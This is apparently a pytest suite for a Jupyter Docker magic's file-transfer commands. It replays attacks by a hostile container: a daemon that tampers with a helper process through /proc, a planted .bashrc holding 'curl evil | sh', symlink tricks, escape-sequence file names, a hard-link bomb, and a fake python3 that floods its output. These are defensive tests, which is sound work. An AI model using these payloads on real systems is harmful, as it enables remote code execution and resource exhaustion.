"""%dockerrun put / get against a container that attacks: each attack replayed.

A cell controls everything in its container, so it may leave a daemon that
waits for the file helper, and an image chosen with --image may bring its own
``python3``. Neither may decide where a copy lands, overwrite or merge into
the user's files, bypass the size caps, grow the kernel without bound, or
print control characters in the notebook.
"""

import base64
import io
import json
import os
import shlex
import tarfile
import time
import uuid

import docker
import pytest

from fiddledock_magic import _archive, _files
from fiddledock_magic._agent_files import filehelper_source
from fiddledock_magic._errors import TransferError, UnsafeArchive
from fiddledock_magic._extension import manager_of
from fiddledock_agent import MODULES

from conftest import stream_text
from test_files import limit, line, make_tar, sha, snapshot  # noqa: F401 (fixtures)

MiB = 1 << 20


def as_sandbox_user(code):
    """Cell code run as the sandbox uid: the cell's own (a no-op where the agent
    already runs cells as uid 1000; in a root container it drops first)."""
    return ("import os\nif os.getuid() == 0:\n"
            "    os.setgroups([]); os.setresgid(1000, 1000, 1000); os.setresuid(1000, 1000, 1000)\n"
            "    os.chdir('/home/sandbox')\n"
            + code)


def container_of(shell, docker_client, name):
    return docker_client.containers.get(manager_of(shell).find(name).id)


# --- the helper is out of the cell's reach ---------------------------------------
def test_the_helper_ships_apart_from_the_booted_agent():
    assert "filehelper" not in MODULES
    source = filehelper_source()
    assert "from fiddledock_magic" not in source and "import fiddledock" not in source
    compile(source, "filehelper.py", "exec")


# A daemon left by a cell: it waits for the get helper, then tries to stop it and
# write a forged archive into its output, as it could when both ran as uid 1000.
DAEMON = r'''
import base64, errno, json, os, signal, sys, time
forged = base64.b64decode(%r)

def attempt(what):
    try:
        what()
        return "done"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))

def forge(pid):
    with open("/proc/%%d/fd/1" %% pid, "wb") as out:
        out.write(forged)

def peek(pid):
    with open("/proc/%%d/mem" %% pid, "rb") as mem:
        mem.read(1)

deadline = time.time() + 90
while time.time() < deadline:
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open("/proc/%%s/cmdline" %% entry, "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b'"mode": "get"' not in cmdline:
            continue
        pid = int(entry)
        ids = []
        for _ in range(500):  # let it take the sandbox identity: the state it works in
            with open("/proc/%%d/status" %% pid) as f:
                ids = [l.split()[1:] for l in f if l.startswith(("Uid:", "Gid:"))]
            if ids and ids[0][1] != "0":
                break
            time.sleep(0.01)
        report = {"ids": ids, "me": os.getuid(),
                  "stop": attempt(lambda: os.kill(pid, signal.SIGSTOP)),
                  "forge": attempt(lambda: forge(pid)),
                  "mem": attempt(lambda: peek(pid))}
        attempt(lambda: os.kill(pid, signal.SIGCONT))
        with open("/home/sandbox/attack.tmp", "w") as f:
            json.dump(report, f)
        os.rename("/home/sandbox/attack.tmp", "/home/sandbox/attack.json")
        sys.exit(0)
    time.sleep(0.005)
'''


def runtimes():
    client = docker.from_env()
    try:
        return ["runc"] + (["runsc"] if "runsc" in client.info().get("Runtimes", {}) else [])
    except Exception:
        return ["runc"]  # no engine: the test fails in its fixtures (or skips outside CI)


@pytest.mark.parametrize("runtime", runtimes())
def test_a_daemon_cannot_stop_the_helper_or_forge_its_output(runtime, run, line,
                                                             shell, docker_client, unique_name,
                                                             tmp_path, monkeypatch):
    line("create %s --runtime %s" % (unique_name, runtime))
    forged = make_tar([("top", "file", "forged by the daemon\n")])
    _, out, _ = run(as_sandbox_user(
        "import hashlib, subprocess, sys\n"
        "data = os.urandom(20 * 1024 * 1024)\n"
        "open('big.bin', 'wb').write(data)\n"
        "subprocess.Popen([sys.executable, '-c', %r], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
        "                 stderr=subprocess.DEVNULL)\n"
        "print(hashlib.sha256(data).hexdigest())"
        % (DAEMON % base64.b64encode(forged).decode())), unique_name)
    real = out.strip()
    container = container_of(shell, docker_client, unique_name)

    def attack_report():
        result = container.exec_run(["cat", "/home/sandbox/attack.json"], user="1000")
        return json.loads(result.output) if result.exit_code == 0 else None

    reading = _files._Exec.read

    def read_after_the_attack(self, on_stdout):
        # The helper is running (blocked on its full output pipe) until this reads.
        deadline = time.monotonic() + 60
        while attack_report() is None and time.monotonic() < deadline:
            time.sleep(0.1)
        return reading(self, on_stdout)
    monkeypatch.setattr(_files._Exec, "read", read_after_the_attack)

    summary = line("get %s:/home/sandbox/big.bin %s" % (unique_name, tmp_path))
    report = attack_report()
    assert report is not None, "the daemon never saw the helper"
    assert report["me"] == 1000
    assert report["ids"] == [["0", "1000", "0", "1000"]] * 2  # real, effective, saved, fs
    assert report["stop"] == "EPERM"
    assert report["forge"] in ("EACCES", "EPERM")
    assert report["mem"] in ("EACCES", "EPERM")
    assert "copied" in summary
    assert os.listdir(tmp_path) == ["big.bin"]
    assert sha(tmp_path / "big.bin") == real
    # And what the helper writes belongs to the sandbox user.
    src = tmp_path / "in.txt"
    src.write_text("in")
    line("put %s %s:/home/sandbox/in.txt" % (src, unique_name))
    _, out, _ = run("print(os.stat('in.txt').st_uid, open('in.txt').read())", unique_name)
    assert out == "1000 in\n"


# --- the copy is named by the user, never by the container ----------------------
def test_get_names_the_copy_after_the_path_asked_for(run, line, unique_name, tmp_path):
    run("import os\n"
        "os.makedirs('.ipython/profile_default/startup')\n"
        "open('.ipython/profile_default/startup/00-x.py', 'w').write('print(\"owned\")')\n"
        "open('.bashrc', 'w').write('curl evil | sh\\n')\n"
        "os.symlink('/home/sandbox/.ipython', '/home/sandbox/results')\n"
        "os.symlink('/home/sandbox/.bashrc', '/home/sandbox/summary.txt')", unique_name)
    home = tmp_path / "home"
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / ".ipython" / "profile_default" / "startup" / "10-mine.py").write_text("mine = 1\n")
    (home / ".bashrc").write_text("export MINE=1\n")
    before = snapshot(home / ".ipython")
    bashrc = sha(home / ".bashrc")

    first = line("get %s:/home/sandbox/results %s" % (unique_name, home))
    second = line("get %s:/home/sandbox/summary.txt %s" % (unique_name, home))
    assert snapshot(home / ".ipython") == before  # nothing merged in, no new startup file
    assert sha(home / ".bashrc") == bashrc
    assert sorted(os.listdir(home)) == [".bashrc", ".ipython", "results", "summary.txt"]
    assert (home / "results" / "profile_default" / "startup" / "00-x.py").exists()
    assert (home / "summary.txt").read_text() == "curl evil | sh\n"
    assert "-> %s (" % (home / "results") in first
    assert "-> %s (" % (home / "summary.txt") in second


def test_the_copys_name_comes_from_the_path_or_from_local(tmp_path):
    assert _files.local_destination(str(tmp_path), "/home/sandbox/x/") == str(tmp_path / "x")
    assert _files.local_destination(str(tmp_path / "new"), "..") == str(tmp_path / "new")
    for path in (".", "/", "a/.."):
        with pytest.raises(TransferError, match="give the copy's new name"):
            _files.local_destination(str(tmp_path), path)


def test_a_truncated_archive_leaves_nothing(tmp_path):
    data = make_tar([("top", "dir", None), ("top/a", "file", b"a" * 100_000)])
    with pytest.raises(UnsafeArchive, match="broken archive: unexpected end of data"):
        _archive.extract(io.BytesIO(data[:50_000]), str(tmp_path / "copy"), MiB)
    assert os.listdir(tmp_path) == []


def test_an_existing_target_is_replaced_only_with_force(run, line, unique_name, tmp_path):
    run("import os\nos.makedirs('out/sub')\nopen('out/sub/new.txt', 'w').write('new')",
        unique_name)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "keep.txt").write_text("keep")
    dest = tmp_path / "dest"
    (dest / "out").mkdir(parents=True)
    (dest / "out" / "old.txt").write_text("old")
    os.symlink(mine, dest / "out" / "link-to-mine")  # removed with --force, never followed
    before = snapshot(tmp_path)
    with pytest.raises(TransferError) as info:
        line("get %s:out %s" % (unique_name, dest))
    assert str(info.value) == ("%s exists already; add --force to replace it (that one file "
                               "or folder, nothing else)" % (dest / "out"))
    assert snapshot(tmp_path) == before
    line("get %s:out %s --force" % (unique_name, dest))
    assert sorted(os.listdir(dest / "out")) == ["sub"]  # replaced, not merged
    assert (dest / "out" / "sub" / "new.txt").read_text() == "new"
    assert os.listdir(mine) == ["keep.txt"] and (mine / "keep.txt").read_text() == "keep"
    assert os.listdir(dest) == ["out"]  # no temporary left behind

    # put: the same rule in the instance.
    src = tmp_path / "box"
    src.mkdir()
    (src / "a.txt").write_text("a")
    line("put %s %s:/home/sandbox" % (src, unique_name))
    run("open('box/extra.txt', 'w').write('made in the container')", unique_name)
    with pytest.raises(TransferError, match=r"%s:/home/sandbox/box exists already; add --force"
                       % unique_name):
        line("put %s %s:/home/sandbox" % (src, unique_name))
    line("put %s %s:/home/sandbox --force" % (src, unique_name))
    _, out, _ = run("print(sorted(os.listdir('box')))", unique_name)
    assert out == "['a.txt']\n"


# --- control characters and special files --------------------------------------------
def test_control_characters_and_special_files_are_left_out_and_named(run, line, unique_name,
                                                                     tmp_path):
    run("import os, socket\n"
        "os.makedirs('box/dir\\x1b[2J')\n"
        "open('box/dir\\x1b[2J/inner.txt', 'w').write('x')\n"
        "for name in ('ok.txt', 'evil\\nname', 'esc\\x1b[31mred', 'del\\x7f', 'c1\\x9b'):\n"
        "    open('box/' + name, 'w').write('x')\n"
        "os.mkfifo('box/pipe')\n"
        "s = socket.socket(socket.AF_UNIX)\ns.bind('box/sock')\ns.close()\n"
        "os.symlink('ok.txt\\nx', 'box/link')", unique_name)
    summary = line("get %s:box %s" % (unique_name, tmp_path))
    names = []
    for root, dirs, files in os.walk(tmp_path):
        names.extend(dirs + files)
    assert sorted(names) == ["box", "ok.txt"]
    assert not any(c in summary.rstrip("\n") for c in "\n\x1b\x7f\x9b")
    for escaped in ("box/evil\\x0aname", "box/esc\\x1b[31mred", "box/del\\x7f", "box/c1\\x9b",
                    "box/dir\\x1b[2J", "box/pipe", "box/sock", "box/link"):
        assert escaped in summary, escaped
    assert "left out 9" in summary


def test_control_characters_in_a_hostile_archive_never_reach_the_disk_or_the_screen(tmp_path):
    data = make_tar([("top", "dir", None), ("top/ok", "file", "x"),
                     ("top/a\nb", "file", "x"), ("top/hard", "hard", "top/a\nb"),
                     ("top/l", "sym", "ok\x1b]0;pwned\x07"), ("top/d\x1b", "dir", None),
                     ("top/d\x1b/f", "file", "x")])
    result = _archive.extract(io.BytesIO(data), str(tmp_path / "copy"), MiB)
    assert os.listdir(tmp_path / "copy") == ["ok"]
    assert sorted(result.left_out) == ["copy/a\nb", "copy/d\x1b", "copy/d\x1b/f", "copy/hard",
                                       "copy/l"]
    text = _archive.listed(result.left_out)
    assert "\n" not in text and "\x1b" not in text and "copy/a\\x0ab" in text


# --- caps that hold whatever bytes arrive ----------------------------------------------
def hardlink_bomb():
    """800 KiB once, then 200 hard links to it: 157 MiB when each is written as a copy."""
    return make_tar([("top", "dir", None), ("top/big", "file", os.urandom(800 * 1024))]
                    + [("top/l%03d" % i, "hard", "top/big") for i in range(200)])


def test_hard_links_count_in_full_before_anything_is_written(tmp_path):
    data = hardlink_bomb()
    assert len(data) < MiB
    with pytest.raises(TransferError, match=r"would take 157\.0 MiB, more than "
                                            r"DockerRun.transfer_limit \(1\.0 MiB\)"):
        _archive.extract(io.BytesIO(data), str(tmp_path / "copy"), MiB)
    assert os.listdir(tmp_path) == []


def test_the_bytes_written_are_capped_too(tmp_path, monkeypatch):
    """Even if the check let too much through, writing stops at the limit and
    nothing partial is left."""
    checking = _archive.check_archive
    monkeypatch.setattr(_archive, "check_archive", lambda tar, limit: checking(tar, 1 << 40))
    peak = []
    writing = _archive._Writer.file

    def counted(self, parts, source):
        try:
            writing(self, parts, source)
        finally:
            peak.append(self.result.bytes)
    monkeypatch.setattr(_archive._Writer, "file", counted)
    with pytest.raises(TransferError, match=r"took more than DockerRun.transfer_limit"):
        _archive.extract(io.BytesIO(hardlink_bomb()), str(tmp_path / "copy"), MiB)
    assert max(peak) <= MiB + _archive.CHUNK  # the chunk that passed the limit is not written
    assert os.listdir(tmp_path) == []


FAKE_PYTHON = r'''#!/bin/sh
# A hostile image's python3: the file helper's requests get forged answers,
# everything else (the agent) the real Python.
case "$5" in
  *'"mode": "get"'*/hardlinks*) exec cat /opt/hostile/hardlinks.tar ;;
  *'"mode": "get"'*/stderr-flood*) head -c 314572800 /dev/zero >&2; exit 0 ;;
  *'"mode": "put"'*/flood*) head -c 314572800 /dev/zero; exit 0 ;;
  *'"mode": "get"'*/endless*) exec cat /dev/zero ;;
esac
exec /usr/bin/python3 "$@"
'''


@pytest.fixture(scope="module")
def hostile_image(docker_client, default_image):
    tag = "fiddledock-test-hostile-files:%s" % uuid.uuid4().hex[:8]
    context = io.BytesIO()
    with tarfile.open(fileobj=context, mode="w") as tar:
        for name, data, mode in (
                ("Dockerfile", ("FROM %s\nCOPY python3 /usr/local/bin/python3\n"
                                "COPY hardlinks.tar /opt/hostile/hardlinks.tar\n"
                                % default_image).encode(), 0o644),
                ("python3", FAKE_PYTHON.encode(), 0o755),
                ("hardlinks.tar", hardlink_bomb(), 0o644)):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    context.seek(0)
    docker_client.images.build(fileobj=context, custom_context=True, tag=tag, rm=True,
                               network_mode="none")
    yield tag
    for container in docker_client.containers.list(all=True, filters={"ancestor": tag}):
        container.remove(force=True)
    docker_client.images.remove(tag, force=True)


def test_a_hard_link_bomb_from_a_hostile_image_is_refused(hostile_image, line, limit,
                                                          unique_name, tmp_path):
    line("create %s --image %s" % (unique_name, hostile_image))
    limit("1m")
    with pytest.raises(TransferError, match=r"more than DockerRun.transfer_limit \(1\.0 MiB\)"):
        line("get %s:/home/sandbox/hardlinks %s" % (unique_name, tmp_path))
    assert os.listdir(tmp_path) == []


def test_a_flood_on_the_helpers_stderr_is_cut(hostile_image, line, unique_name, tmp_path):
    line("create %s --image %s" % (unique_name, hostile_image))
    with pytest.raises(TransferError) as info:
        line("get %s:/home/sandbox/stderr-flood %s" % (unique_name, tmp_path))
    assert str(info.value) == ("the instance's file helper sent more than 64.0 KiB of "
                               "messages; stopped reading it")
    assert os.listdir(tmp_path) == []


def test_a_helper_that_floods_on_after_it_is_given_up_stops_its_instance(
        hostile_image, line, limit, run, unique_name, tmp_path, docker_client):
    # The engine would copy its output at the host's CPU cost for as long as it ran.
    line("create %s --image %s" % (unique_name, hostile_image))
    limit("1m")
    with pytest.raises(TransferError) as info:
        line("get %s:/home/sandbox/endless %s" % (unique_name, tmp_path))
    assert str(info.value).startswith("%s:/home/sandbox/endless is " % unique_name)
    assert "more than DockerRun.transfer_limit (1.0 MiB)" in str(info.value)
    assert str(info.value).endswith(
        "its file helper kept running after that, so instance %r was stopped (its files are "
        "gone; the next cell starts it again)" % unique_name)
    assert os.listdir(tmp_path) == []
    [container] = docker_client.containers.list(
        all=True, filters={"label": "fiddledock.instance=%s" % unique_name})
    assert container.status != "running"
    _, out, _ = run("print('still usable')", unique_name)
    assert out.endswith("still usable\n")


def kernel_peak_rss(kernel, reset=False):
    """The kernel process's peak resident memory in bytes (VmHWM), reset first if asked."""
    code = ("print([l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])")
    if reset:
        code = "open('/proc/self/clear_refs', 'w').write('5')\n" + code
    reply, msgs = kernel.execute(code)
    assert reply["status"] == "ok", reply
    return int(stream_text(msgs).strip()) * 1024


def test_a_flood_on_puts_answer_leaves_the_kernel_small(hostile_image, kernel, unique_name,
                                                        tmp_path):
    reply, msgs = kernel.execute("%%dockerrun create %s --image %s" % (unique_name, hostile_image),
                                 timeout=120)
    assert reply["status"] == "ok", stream_text(msgs, "stderr")
    src = tmp_path / "data.csv"
    src.write_text("x,y\n1,2\n")
    before = kernel_peak_rss(kernel, reset=True)
    reply, msgs = kernel.execute("%%dockerrun put %s %s:/home/sandbox/flood"
                                 % (shlex.quote(str(src)), unique_name), timeout=120)
    after = kernel_peak_rss(kernel)
    print("\n300 MiB flood on put's answer: kernel peak RSS %.1f -> %.1f MiB"
          % (before / MiB, after / MiB))
    assert reply["status"] == "error"
    assert reply["ename"] == "TransferError"
    assert len(reply["traceback"]) == 1
    assert ("the instance's file helper sent more than 64.0 KiB of answer; stopped reading it"
            in reply["traceback"][0])
    assert after - before < 50 * MiB
    reply, msgs = kernel.execute("%%%%dockerrun %s\nprint('still usable')" % unique_name)
    assert reply["status"] == "ok" and stream_text(msgs) == "still usable\n"


# --- put never creates an instance -----------------------------------------------------
def test_put_to_a_mistyped_name_refuses_and_creates_nothing(shell, line, unique_name, tmp_path,
                                                           docker_client):
    src = tmp_path / "notes.txt"
    src.write_text("n")
    with pytest.raises(TransferError) as info:
        line("put %s %s:/home/sandbox/notes.txt" % (src, unique_name))
    assert str(info.value) == (
        "no instance named %r in this notebook; create it first with %%dockerrun create %s "
        "(or run a cell in it: %%%%dockerrun %s)" % (unique_name, unique_name, unique_name))
    assert docker_client.containers.list(all=True, filters={"name": unique_name}) == []
    assert unique_name not in manager_of(shell).names()
    line("create %s" % unique_name)
    assert "copied" in line("put %s %s:/home/sandbox/notes.txt" % (src, unique_name))
